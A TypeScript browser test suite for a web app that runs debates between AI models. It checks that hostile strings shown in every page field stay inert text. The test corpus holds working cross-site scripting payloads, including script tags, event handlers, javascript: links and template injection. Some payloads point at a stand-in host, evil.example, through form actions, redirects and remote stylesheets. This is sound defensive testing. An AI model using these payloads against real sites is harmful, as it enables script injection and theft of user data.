/** No text of a model, a tenant or a provider is run, loaded or read as markup anywhere on the page. */
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { buildTestApp, ended, type TestApp } from '../support/build-app.ts';
import { json, status } from '../support/fake-provider/fake-reply.ts';
import type { Script } from '../support/fake-provider/scripts.ts';
import { askedFields } from '../support/fake-provider/scripts.ts';
import { BROWSER_TIMEOUT, openPage, startBrowser, type WatchedPage } from './browser.ts';

/** The marks that it would leave if it ran. */
const DOES = 'window.hacked=1';
const corpus: Readonly<Record<string, string>> = {
  'a script': `<script>${DOES}</script>`,
  'a script out of an attribute': `"><script>${DOES}</script>`,
  'a script out of a text area and a title': `</textarea></title></style><script>${DOES}</script>`,
  'an image that fails': `<img src=x onerror="${DOES}">`,
  'an image of elsewhere': '<img src="http://evil.example/pixel.gif">',
  'an attribute': `' onmouseover='${DOES}' autofocus onfocus='${DOES}' x='`,
  'a drawing': `<svg onload="${DOES}"><animate onbegin="${DOES}" attributeName=x dur=1s></svg>`,
  'a frame': `<iframe srcdoc="<script>parent.${DOES}</script>"></iframe>`,
  'a link that runs': `<a href="javascript:${DOES}">javascript:${DOES}</a>`,
  'a style': '<style>body{display:none}</style><link rel=stylesheet href=//evil.example/x.css>',
  'a base and a refresh':
    '<base href="http://evil.example/"><meta http-equiv=refresh content="0;url=http://evil.example/">',
  'a form': '<form action="http://evil.example/"><input name=key autofocus></form>',
  'markup that is no markup yet': `&lt;img src=x onerror=${DOES}&gt; &#60;script&#62;${DOES}&#60;/script&#62;`,
  'a template': `\${${DOES}} {{constructor.constructor("${DOES}")()}} <\${Script} />`,
  'a node of the library': `{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${DOES}"}},"__v":1}`,
  'a name that objects have': '__proto__ constructor toString hasOwnProperty',
  'an event of its own': `\n\nid: 99\nevent: debate.completed\ndata: {"result":null}\n\n<img src=x onerror=${DOES}>`,
  'a row that runs backwards': `\u202e\u2066<script>${DOES}</script>\u2069`,
};

/** The text of every debater in the running debate. */
let hostile = '';

/** Two debaters that never agree, and a third that its provider refuses with this text. */
const script: Script = (request) => {
  if (request.model === 'gpt-5-mini') return status(400, { message: hostile });
  const answer = `${request.model} ${hostile}`;
  const first = { answer, reasoning: `${hostile} ${hostile}`, confidence: 0.6 };
  if (!askedFields(request).includes('critiques')) return json(first);
  return json({
    ...first,
    answer: `${answer} again`,
    restated_answer: answer,
    critiques: ['Peer A', 'Peer B'].map((peer) => ({ peer, assessment: hostile })),
    changed: true,
    change_justification: hostile,
  });
};
let browser: Browser;
let service: TestApp;
let page: WatchedPage;

beforeAll(async () => {
  browser = await startBrowser();
  service = await buildTestApp({ script });
  page = await openPage(browser, await service.listen());
}, 120_000);
afterAll(async () => {
  await page.leave();
  await service.close();
  await browser.close();
  expect(page.faults).toEqual([]);
});

/** Nothing ran, and the page has only elements that its own code makes. */
async function isHarmless(): Promise<void> {
  expect(await page.evaluate('window.hacked')).toBeUndefined();
  expect(page.faults).toEqual([]);
  expect(await page.evaluate('window.refused')).toEqual([]);
  const strangers = `[...document.querySelectorAll('main :is(script, img, iframe, style, link, base, meta, object, embed, animate)')]
    .concat([...document.querySelectorAll('*')].filter((each) => [...each.attributes].some(({ name, value }) =>
      name.startsWith('on') || /^\\s*javascript:/i.test(value) || (name === 'href' && !/^[/]/.test(value)))))
    .map(({ outerHTML }) => outerHTML)`;
  expect(await page.evaluate(strangers)).toEqual([]);
}

/** The text as the page shows it, with any white space. */
const plain = (text: string | null) => (text ?? '').replaceAll(/\s+/g, ' ');

describe.each(Object.entries(corpus))('hostile text (%s)', (_, text) => {
  test('is shown as text in every field of a debate, without an effect', BROWSER_TIMEOUT, async () => {
    hostile = text;
    const payload = {
      question: `Question ${hostile}`,
      context: hostile,
      adaptive_routing: false,
      max_rounds: 2,
      convergence_similarity: 1,
      metadata: { note: hostile.slice(0, 512) },
      debaters: [
        { model: 'openai/gpt-4o-mini', name: '__proto__', role_hint: hostile },
        { model: 'openai/gpt-4o', name: 'constructor' },
        { model: 'openai/gpt-5-mini' },
      ],
    };
    const accepted = await service.app.inject({ method: 'POST', url: '/v1/debates', payload });
    expect(accepted.statusCode, accepted.body).toBe(202);
    const { id } = accepted.json();
    await ended(service, id);
    await page.goto(`/d/${id}`);
    await page.getByText('Completed', { exact: true }).waitFor();
    for (const details of await page.locator('td details').all()) await details.locator('summary').click();
    const shown = plain(await page.locator('main').textContent());
    const expected = plain(hostile).trim();
    // The question, two answers, what they were changed from, reasons, critiques and justifications.
    expect(shown.split(expected).length - 1).toBeGreaterThanOrEqual(12);
    await isHarmless();
  });
});

test('hostile text › is shown as text in the lists, the filters and the commands', BROWSER_TIMEOUT, async () => {
  for (const place of ['/#history', '/#review', '/#budget', '/']) {
    await page.goto('about:blank');
    await page.goto(place);
    await page.locator('main h1').waitFor();
    await isHarmless();
  }
  for (const hostile of Object.values(corpus)) {
    await page.getByRole('textbox', { name: 'Question' }).fill(hostile);
    await isHarmless();
  }
});

test('hostile text › is shown as text in a refusal of the service', BROWSER_TIMEOUT, async () => {
  await page.goto('/');
  await page.getByRole('textbox', { name: 'Question' }).fill('Who?');
  await page.getByText('Models, options, context, limits').click();
  await page.getByRole('textbox', { name: /^Models/ }).fill(`openai/<img/src=x/onerror=${DOES}>\nopenai/b`);
  await page.getByRole('button', { name: 'Start debate' }).click();
  await page.getByRole('alert').or(page.locator('h1.question')).first().waitFor();
  await isHarmless();
});
